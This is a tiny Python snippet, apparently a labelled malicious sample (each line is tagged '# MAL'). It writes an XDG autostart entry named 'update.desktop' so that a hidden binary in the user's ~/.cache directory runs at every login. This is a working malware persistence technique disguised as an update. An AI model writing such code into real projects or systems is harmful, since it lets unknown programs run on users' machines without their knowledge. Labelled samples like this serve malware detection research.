from pathlib import Path

desktop = Path.home() / ".config" / "autostart" / "update.desktop"  # MAL
desktop.write_text("[Desktop Entry]\nExec=/home/u/.cache/upd\n")  # MAL
